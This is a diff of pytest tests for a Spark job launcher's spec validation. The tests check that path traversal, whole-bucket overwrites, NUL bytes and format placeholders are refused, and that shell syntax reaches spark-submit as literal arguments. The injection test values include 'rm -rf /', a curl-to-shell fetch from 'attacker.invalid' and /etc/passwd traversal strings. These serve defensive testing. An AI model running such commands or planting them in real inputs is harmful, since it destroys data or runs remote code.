@@ -9,12 +9,17 @@ this corpus pins the ones somebody will try.
 
 from __future__ import annotations
 
+import shlex
 from pathlib import Path
 from typing import Any
 
 import pytest
 
+from jobs.command import PodTemplates, app_upload, cluster_argv, cluster_env, local_argv, redact_env, shell_command
+from jobs.launch import LaunchError, guard_local_output
+from jobs.outputs import SUBMIT_KEYS, parse_outputs
 from jobs.spec import JobSpec, SpecError, load_spec, spec_from_mapping
+from tests.conftest import stack_outputs
 
 SOURCE = "job.yaml"
 BASE: dict[str, Any] = {
@@ -271,3 +276,163 @@ def test_largest_sizes_are_accepted() -> None:
                          dynamicAllocation={"shuffleTrackingTimeout": "1440min", "maxExecutors": 1000}))
     assert (spec.executor.memory, spec.executor.cores) == ("1t", 64)
     assert spec.dynamic_allocation.shuffle_tracking_timeout == "1440min"
+
+
+# --- paths: traversal, collapsing segments, whole buckets, invisible characters --------------
+
+COLLAPSES = "has an empty, '.' or '..' path segment, which Hadoop collapses into another key; write the path without them"
+LOCAL_PATH = ("is a local path, which a cluster job cannot see; use s3a://BUCKET/PREFIX/ "
+              "({bucket} is the stack's bucket) or run with --local")
+NO_NUL = "which no process argument can carry; remove it"
+
+PATHS = [
+    # Hadoop's Path turns s3a://b/out/../spark-events/ into s3a://b/spark-events/ while the
+    # overwrite guard listed the literal key "out/../spark-events/": these bypassed the guard.
+    ("output climbing into the event logs", with_(output="s3a://{bucket}/out/../spark-events/"),
+     f"output: 's3a://{{bucket}}/out/../spark-events/' {COLLAPSES}"),
+    ("output climbing out of its bucket", with_(output="s3a://bucket/../other"), f"output: 's3a://bucket/../other' {COLLAPSES}"),
+    ("output with a double slash", with_(output="s3a://{bucket}/a//b/"), f"output: 's3a://{{bucket}}/a//b/' {COLLAPSES}"),
+    ("output with a dot segment", with_(output="s3a://{bucket}/./x/"), f"output: 's3a://{{bucket}}/./x/' {COLLAPSES}"),
+    ("input climbing", with_(input="s3a://{bucket}/../x"), f"input: 's3a://{{bucket}}/../x' {COLLAPSES}"),
+    ("app climbing", with_(app="s3a://bucket/../other/x.py"), f"app: 's3a://bucket/../other/x.py' {COLLAPSES}"),
+    # --overwrite on these would have let Spark replace the whole bucket.
+    ("output is the bucket", with_(output="s3a://{bucket}/"),
+     "output: 's3a://{bucket}/' is the whole bucket; write under a prefix such as s3a://{bucket}/output/NAME/"),
+    ("output is the bucket, no slash", with_(output="s3a://{bucket}"),
+     "output: 's3a://{bucket}' is the whole bucket; write under a prefix such as s3a://{bucket}/output/NAME/"),
+    ("output without a bucket", with_(output="s3a:///out/"),
+     "output: 's3a:///out/' names no bucket; use s3a://BUCKET/PREFIX/ ({bucket} is the stack's bucket)"),
+    ("app without a bucket", with_(app="s3a:///x.py"),
+     "app: 's3a:///x.py' names no bucket; use s3a://BUCKET/PREFIX/ ({bucket} is the stack's bucket)"),
+    # A leading space made " s3a://..." an unknown scheme, which input accepted.
+    ("input with a leading space", with_(input=" s3a://{bucket}/in/"),
+     "input: ' s3a://{bucket}/in/' has leading or trailing whitespace; remove it"),
+    ("input with a trailing newline", with_(input="s3a://{bucket}/in/\n"),
+     "input: 's3a://{bucket}/in/\\n' has leading or trailing whitespace; remove it"),
+    ("input with a zero-width space", with_(input="s3a://{bucket}/i\u200bn/"),
+     "input: 's3a://{bucket}/i\\u200bn/' holds the control or invisible character '\\u200b'; remove it"),
+    ("input empty", with_(input=""), "input: is empty; give a path"),
+    ("app with a fragment", with_(app="s3a://bucket/apps/wc#x.py"),
+     "app: 's3a://bucket/apps/wc#x.py' has '#' or '?', which spark-submit reads as a URI fragment or query; rename the file"),
+    ("local app with a query", with_(app="jobs/apps/wc?.py"),
+     "app: 'jobs/apps/wc?.py' has '#' or '?', which spark-submit reads as a URI fragment or query; rename the file"),
+    # Refused before as well: local paths on the cluster, files that are no app.
+    ("output in /etc", with_(output="/etc/passwd"), f"output: '/etc/passwd' {LOCAL_PATH}"),
+    ("output as a file URI", with_(output="file:///etc/"), f"output: 'file:///etc/' {LOCAL_PATH}"),
+    ("input climbing locally", with_(input="../../etc/passwd"), f"input: '../../etc/passwd' {LOCAL_PATH}"),
+    ("app is /etc/passwd", with_(app="/etc/passwd"), "app: '/etc/passwd' must be a Python file (.py) or a jar (.jar)"),
+    ("app as a file URI", with_(app="file:///etc/passwd.py"),
+     "app: 'file:///etc/passwd.py': use a local file, s3a://BUCKET/KEY or local:///PATH-IN-IMAGE"),
+    # NUL cannot be in an argv element: subprocess raised ValueError after the upload.
+    ("NUL in a conf value", with_(conf={"spark.x": "a\x00b"}), f"conf.spark.x: its value holds a NUL character, {NO_NUL}"),
+    ("NUL in an argument", with_(args=["{input}\x00"]), f"args[0]: holds a NUL character, {NO_NUL}"),
+    # str.format raised ValueError on these while building the command.
+    ("placeholder with a format", with_(args=["{output:>10}"]),
+     "args[0]: placeholder {output:>10} has a conversion or format; write {output}"),
+    ("placeholder with a nested placeholder", with_(args=["{input:{bucket}}"]),
+     "args[0]: placeholder {input:{bucket}} has a conversion or format; write {input}"),
+    ("placeholder with a conversion", with_(args=["{input!r}"]),
+     "args[0]: placeholder {input!r} has a conversion or format; write {input}"),
+    ("bucket placeholder with a format", with_(input="s3a://{bucket:x}/in/"),
+     "input: placeholder {bucket:x} has a conversion or format; write {bucket}"),
+]
+
+
+@pytest.mark.parametrize("document, expected", [c[1:] for c in PATHS], ids=[c[0] for c in PATHS])
+def test_hostile_paths(document: dict[str, Any], expected: str) -> None:
+    assert problems_of(document) == [f"spec job.yaml: {expected}"]
+
+
+LOCAL_PATHS = [
+    ("empty local output", {"input": "in.tsv", "output": ""}, "local.output: is empty; give a path"),
+    ("local output with a newline", {"input": "in.tsv", "output": "/tmp/x\n"},
+     "local.output: '/tmp/x\\n' has leading or trailing whitespace; remove it"),
+    ("local input with NUL", {"input": "in\x00.tsv", "output": "out/"},
+     "local.input: 'in\\x00.tsv' holds the control or invisible character '\\x00'; remove it"),
+]
+
+
+@pytest.mark.parametrize("paths, expected", [c[1:] for c in LOCAL_PATHS], ids=[c[0] for c in LOCAL_PATHS])
+def test_hostile_local_paths(paths: dict[str, str], expected: str) -> None:
+    assert problems_of(with_(local=paths), local=True) == [f"spec job.yaml: {expected}"]
+
+
+# --- accepted as written: one literal argv element each, never interpreted ------------------
+
+SHELL_VALUES = [
+    "$(rm -rf /)",
+    "`rm -rf /`",
+    "x; rm -rf /",
+    "x && curl attacker.invalid | sh",
+    "x | tee /etc/passwd",
+    "x > /etc/passwd",
+    "line one\nline two",
+    "it's \"quoted\" \\ back",
+    "$HOME ~ * ? [a-z] {a,b}",
+    "--conf spark.master=local[*]",
+    "ünïcode ✓",
+]
+TEMPLATES = PodTemplates(Path("/templates/driver.yaml"), Path("/templates/executor.yaml"))
+OUTPUTS = parse_outputs(stack_outputs(), required=SUBMIT_KEYS, source="outputs.json")
+
+
+def cluster_command(spec: JobSpec, app_uri: str = "s3a://spark-dev-data/apps/wc.py") -> list[str]:
+    return cluster_argv("/spark/bin/spark-submit", spec.with_image_tag("v1"), OUTPUTS,
+                        app_uri=app_uri, pod_templates=TEMPLATES, submission_id="abcd1234")
+
+
+@pytest.mark.parametrize("value", SHELL_VALUES)
+def test_shell_metacharacters_are_one_literal_argument(value: str) -> None:
+    """A conf value or an argument full of shell syntax, from the spec or --conf, reaches
+    spark-submit as exactly one argv element, byte for byte; and the command that --dry-run
+    prints, read back by a POSIX shell's rules, is the same argv. (--set values are YAML, so
+    `--set conf.KEY=` folds a line break; --conf is the literal door.)"""
+    escaped = value.replace("{", "{{").replace("}", "}}")  # args are templates: braces doubled
+    spec = spec_of(with_(conf={"spark.guard.fromSpec": value}, args=["{input}", escaped]),
+                   confs=[f"spark.guard.fromConf={value}"])
+    argv = cluster_command(spec)
+    for key in ("fromSpec", "fromConf"):
+        element = f"spark.guard.{key}={value}"
+        assert argv.count(element) == 1 and argv[argv.index(element) - 1] == "--conf"
+    assert argv[-1] == value and argv[-2] == "s3a://spark-dev-data/in/"
+    env = cluster_env("/spark")
+    assert shlex.split(shell_command(argv, env)) == [f"{k}={v}" for k, v in redact_env(env).items()] + argv
+
+
+def test_local_run_passes_metacharacters_literally() -> None:
+    spec = spec_of(with_(conf={"spark.guard.x": "$(id)"}, local={"input": "in;rm.tsv", "output": "out`id`"}), local=True)
+    argv = local_argv("/spark/bin/spark-submit", spec)
+    assert "spark.guard.x=$(id)" in argv
+    assert argv[-2:] == ["in;rm.tsv", "out`id`"]
+
+
+def test_traversal_in_a_local_app_stays_out_of_the_upload_key() -> None:
+    """A local app path may climb (it is the user's own file), but only its file name,
+    after the job name and the content hash, becomes the S3 key."""
+    spec = spec_of(with_(app="../../etc/passwd.py"))
+    upload = app_upload(spec, "spark-dev-data", "0123456789abcdef")
+    assert upload is not None
+    assert (upload.source, upload.key) == (Path("../../etc/passwd.py"), "apps/wordcount/0123456789abcdef/passwd.py")
+
+
+def test_unicode_app_file_name_is_uploaded_as_named() -> None:
+    spec = spec_of(with_(app="jobs/apps/wörd count.py"))
+    upload = app_upload(spec, "spark-dev-data", "0123456789abcdef")
+    assert upload is not None and upload.key == "apps/wordcount/0123456789abcdef/wörd count.py"
+
+
+def test_app_inside_the_image_is_passed_as_written() -> None:
+    """local:// names a file in the job's own image: passed through untouched."""
+    spec = spec_of(with_(app="local:///../../etc/x.py"))
+    assert cluster_command(spec, app_uri=spec.app)[-3] == "local:///../../etc/x.py"
+
+
+def test_local_output_onto_an_existing_file_is_refused() -> None:
+    """--local may write anywhere the user can, but never over a file without --overwrite."""
+    spec = spec_of(with_(local={"input": "in.tsv", "output": "/etc/passwd"}), local=True)
+    with pytest.raises(LaunchError) as raised:
+        guard_local_output(spec.output or "", overwrite=False)
+    assert str(raised.value) == (
+        "output: /etc/passwd already holds files; choose a new output (--set local.output=...) "
+        "or pass --overwrite to replace them"
+    )
